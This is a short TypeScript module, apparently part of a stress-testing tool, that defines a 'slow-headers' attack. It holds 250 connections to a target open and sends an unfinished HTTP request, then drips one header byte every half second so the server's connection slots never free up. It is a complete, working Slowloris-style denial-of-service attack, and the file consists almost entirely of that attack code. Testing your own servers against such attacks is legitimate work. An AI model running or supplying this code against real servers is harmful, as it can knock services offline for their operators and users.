import type { Attack } from '../attack.ts';

/** Sends endless request headers byte by byte. */
export const slowHeaders: Attack = {
  name: 'slow-headers',
  run: (target, signal) =>
    target.repeat(250, async (address) => {
      const socket = await target.connect(address);
      if (!socket) return target.pause(500);
      socket.resume().write(`GET / HTTP/1.1\r\nHost: ${new URL(target.url).host}\r\nX-Slow: `);
      while (!socket.destroyed && !signal.aborted) {
        socket.write('x');
        await target.pause(500);
      }
      socket.destroy();
    }),
};
